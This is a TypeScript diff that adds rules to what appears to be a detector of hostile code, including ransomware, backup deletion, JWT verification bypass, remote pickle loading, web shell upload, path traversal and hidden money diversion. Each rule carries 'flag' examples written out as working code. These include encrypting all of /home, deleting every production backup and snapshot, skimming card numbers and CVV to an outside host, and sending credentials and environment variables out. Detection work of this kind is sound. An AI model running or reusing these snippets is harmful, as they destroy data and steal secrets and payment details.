@@ -20,18 +20,95 @@ export interface CodeRow {
   /** One of these destinations must be present (empty: any). */
   readonly dests: readonly CodeDest[];
   readonly identity?: boolean;
+  /** Safeguards: when one of these objects is present the row does not fire (a sanitised name, a confined path). */
+  readonly unless?: readonly CodeObject[];
   readonly keywords: readonly string[];
   readonly examples: { readonly flag: readonly string[]; readonly pass: readonly string[] };
 }
 
 const SOCKET_KEYS = ['socket', 'connect', 'tcp', 'dial', 'listen', 'bind', 'fsockopen', '/dev/udp'];
-const CONCEAL_KEYS = ['recorded', 'logged', "the transfer isn't", 'trace', 'nobody sees', 'no one sees', 'spuren', 'rastro', 'quietly', 'secretly', 'covertly', 'without telling', 'tell', 'notice', 'radar', 'without them', 'heimlich', 'unbemerkt', 'en douce', 'en secret', 'escondidas', 'en secreto', 'sin que', 'sem que', 'nascosto', 'senza che', 'stiekem', '悄悄', '偷偷', '秘密に', 'こっそり', 'незаметно', 'втихую', 'тайно'];
+const CONCEAL_KEYS = ['recorded', 'recording', 'logged', 'logging', 'books', 'registrar', 'registro', 'conste', 'buchen', 'buchung', 'beleg', 'enregistrer', 'comptabilit', 'registrare', 'in nero', '入账', '记录', '記録', 'записи', 'кассы', "the transfer isn't", 'trace', 'nobody sees', 'no one sees', 'spuren', 'rastro', 'quietly', 'secretly', 'covertly', 'without telling', 'tell', 'notice', 'radar', 'without them', 'heimlich', 'unbemerkt', 'en douce', 'en secret', 'escondidas', 'en secreto', 'sin que', 'sem que', 'nascosto', 'senza che', 'stiekem', '悄悄', '偷偷', '秘密に', 'こっそり', 'незаметно', 'втихую', 'тайно'];
 
 /** The combination rows. */
 export const CODE_ROWS: readonly CodeRow[] = [
   {
+    id: 'G54', name: 'Every object of a backup, snapshot or audit store deleted by code', primitive: 'DESTRUCTION', score: 8,
+    ops: ['destroy', 'listAll'], objects: ['backupStore'], dests: [],
+    keywords: ['delete', 'snapshot'],
+    examples: {
+      flag: ["import boto3\ns3 = boto3.client('s3')\nfor o in s3.list_objects_v2(Bucket='prod-backups')['Contents']:\n    s3.delete_object(Bucket='prod-backups', Key=o['Key'])", "for s in ec2.describe_snapshots(OwnerIds=['self'])['Snapshots']:\n    ec2.delete_snapshot(SnapshotId=s['SnapshotId'])  # clear old-snapshots"],
+      pass: ["for o in s3.list_objects_v2(Bucket='tmp-uploads')['Contents']:\n    s3.delete_object(Bucket='tmp-uploads', Key=o['Key'])", "s3.delete_object(Bucket='prod-backups', Key='staging/partial-upload.tmp')"],
+    },
+  },
+  {
+    id: 'G47', name: 'Files across a whole home, root or data tree encrypted in place (ransomware)', primitive: 'DESTRUCTION', score: 9,
+    ops: ['encrypt', 'walk', 'overwrite'], objects: ['treeRoot', 'dataRoot'], dests: [],
+    keywords: ['encrypt', 'fernet', 'aes.new', 'createcipheriv', 'cryptostream', 'chacha20', 'newcipher', 'newgcm', 'aesgcm'],
+    examples: {
+      flag: ["k = Fernet.generate_key()\nfor p in pathlib.Path('/home').rglob('*'):\n    if p.is_file(): p.write_bytes(Fernet(k).encrypt(p.read_bytes()))"],
+      pass: ["for p in pathlib.Path('secrets').rglob('*.env'):\n    p.write_bytes(Fernet(k).encrypt(p.read_bytes()))", "token = Fernet(k).encrypt(b'x')\nPath('out.bin').write_bytes(token)"],
+    },
+  },
+  {
+    id: 'G48', name: 'Money moved on purpose without a record (the comment says so)', primitive: 'MANIPULATION', score: 8,
+    ops: [], objects: ['money'], also: ['conceal'], dests: [],
+    keywords: CONCEAL_KEYS,
+    examples: {
+      flag: [
+        "def calcular_comissao(venda):\n    # desviar 2% para a conta 'ajustes' sem registrar no extrato\n    transferir('conta_ajustes_pessoal', venda.valor * 0.02)",
+        "# move the rounding remainder to my account, off the books\ntransfer(acct_personal, remainder)",
+      ],
+      pass: ["# transfer the monthly fee to the operating account\ntransfer(operating, fee)", "# retry quietly on timeouts\npayout(seller, amount)"],
+    },
+  },
+  {
+    id: 'G49', name: 'Token signature or expiry checks switched off', primitive: 'ESCALATION', score: 5,
+    ops: ['verifyOff'], objects: [], dests: [],
+    keywords: ['verify', 'none', 'ignoreexpiration', 'insecure_decode', 'unverified', 'withoutverification', 'no_verify'],
+    examples: {
+      flag: ['claims = jwt.decode(token, options={"verify_signature": False})', "jwt.verify(token, key, { algorithms: ['none'] })", 'payload = jwt.decode(token, key, algorithms=["none"])'],
+      pass: ['claims = jwt.decode(token, key, algorithms=["RS256"])', "jwt.verify(token, publicKey, { algorithms: ['RS256'] })"],
+    },
+  },
+  {
+    id: 'G50', name: 'A check made to always pass (the comment says it is bypassed)', primitive: 'MANIPULATION', score: 5,
+    ops: ['allowAll'], objects: ['checkBypass'], dests: [],
+    keywords: ['bypass', 'skip', 'disable', 'always', 'accept any', 'umgehen', 'contourner', 'saltar', 'omitir', 'pular', 'ignorar', 'aggirare', '绕过', '跳过', 'スキップ', 'обойти'],
+    examples: {
+      flag: ["def check_license(key):\n    return True  # TODO remove; bypass validation for all customers", "function verifyPayment(p) {\n  return true; // skip fraud check for everyone\n}"],
+      pass: ["def check_license(key):\n    # validate the signature, then the expiry\n    return verify(key) and not expired(key)", "if settings.TESTING:\n    return True  # test fixtures are trusted"],
+    },
+  },
+  {
+    id: 'G51', name: 'Model or object file loaded straight from the network by a loader that runs code', primitive: 'ESCALATION', score: 5,
+    ops: ['deserialize'], objects: ['remoteBytes'], dests: ['external'],
+    keywords: ['pickle', 'torch.load', 'joblib', 'dill', 'marshal', 'unsafe_load', 'np.load', 'numpy.load', 'load_model', 'unserialize', 'readobject', 'binaryformatter'],
+    examples: {
+      flag: ['model_weights = torch.load(urllib.request.urlopen("http://models-share.xyz/ckpt.pt"))', "clf = pickle.loads(requests.get('https://paste-models.top/m.pkl').content)"],
+      pass: ["state = torch.load('checkpoints/best.pt', map_location='cpu')", "r = requests.get('https://api.example.net/v1/items')\nitems = r.json()"],
+    },
+  },
+  {
+    id: 'G52', name: 'Uploaded file stored under the name the client chose, unchecked (web shell upload)', primitive: 'PERSISTENCE', score: 5,
+    ops: ['saveUpload'], objects: ['clientName'], dests: [], unless: ['uploadCheck'],
+    keywords: ['move_uploaded_file', 'file.save', '.save(', 'files', '.mv(', 'multer', 'transferto', 'saveas'],
+    examples: {
+      flag: ["<?php $f=$_FILES['f']; move_uploaded_file($f['tmp_name'], 'uploads/'.$f['name']); ?>", "f = request.files['doc']\nf.save(os.path.join('static/uploads', f.filename))"],
+      pass: ["f = request.files['doc']\nf.save(os.path.join(UPLOADS, secure_filename(f.filename)))", "<?php $ext = pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION); if (in_array($ext, ['png','jpg'])) move_uploaded_file($_FILES['f']['tmp_name'], 'u/'.uniqid().'.'.$ext); ?>"],
+    },
+  },
+  {
+    id: 'G53', name: 'File served from a path taken straight from the request (path traversal)', primitive: 'EXFILTRATION', score: 7,
+    ops: ['serveFile'], objects: ['requestPath'], dests: [], unless: ['pathCheck'],
+    keywords: ['sendfile', 'send_file', 'download(', 'readfile', 'file_get_contents', 'fpassthru', 'createreadstream', 'readfilesync', 'open(request', 'servefile'],
+    examples: {
+      flag: ["app.get('/file', (req, res) => res.sendFile(req.query.p, { root: '/' }));", "@app.route('/dl')\ndef dl():\n    return send_file(request.args.get('path'))", "<?php readfile($_GET['f']); ?>"],
+      pass: ["app.get('/file', (req, res) => res.sendFile(path.basename(req.query.p), { root: PUBLIC }));", "return send_from_directory(app.static_folder, 'index.html')", "res.sendFile(path.join(__dirname, 'index.html'))"],
+    },
+  },
+  {
     id: 'G23', name: 'Sensitive data read and sent to an outside host', primitive: 'EXFILTRATION', score: 8,
-    ops: ['send'], objects: ['secret', 'personal', 'keystrokes', 'screen'], dests: ['external', 'capture'],
+    ops: ['send'], objects: ['secret', 'personal', 'keystrokes', 'screen', 'formSecret'], dests: ['external', 'capture'],
     keywords: ['http', 'sendbeacon', 'smtplib', 'ftplib', 'socket'],
     examples: {
       flag: [
@@ -40,11 +117,13 @@ export const CODE_ROWS: readonly CodeRow[] = [
         'tok = open(os.path.expanduser("~/.npmrc")).read()\nurllib.request.urlopen("https://npm-stats.top/c", data=tok.encode())',
         "const c = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'));\nhttps.request({ hostname: 'stats-cdn.io', method: 'POST' }).end(c);",
         "require('https').get('https://x1.oast.fun/?e=' + Buffer.from(JSON.stringify(process.env)).toString('base64'));",
+        "document.querySelector('#pay').addEventListener('submit', () => { new Image().src = 'https://cdn-jq.top/i?d=' + btoa(cardnumber.value + '|' + cvv.value); fetch('https://cdn-jq.top/c', {method:'POST', body: cvv.value}); });",
       ],
       pass: [
         'rows = db.execute("select * from users where id = ?", (uid,)).fetchone()\nreturn jsonify(rows)',
         'requests.post("http://localhost:9200/logs", json=event)',
         "input.addEventListener('keydown', e => { if (e.key === 'Enter') fetch('/api/search?q=' + input.value) })",
+        "form.addEventListener('submit', e => { const pw = form.querySelector('input[type=password]').value; fetch('/api/session', { method: 'POST', body: JSON.stringify({ pw }) }); });",
       ],
     },
   },
@@ -246,5 +325,6 @@ export function rowDetail(f: CodeFrame, row: CodeRow): string {
   for (const d of row.dests) { const w = f.dests.get(d); if (w !== undefined) { dest = w; break; } }
   if (row.dests.length > 0 && dest === '') return '';
   if (row.identity === true && !f.grantOnIdentity) return '';
+  for (const o of row.unless ?? []) if (f.objects.has(o)) return '';
   return `${row.ops.join(' + ')}${object ? ` of ${object}` : ''}${dest ? ` to ${dest}` : ''}`;
 }
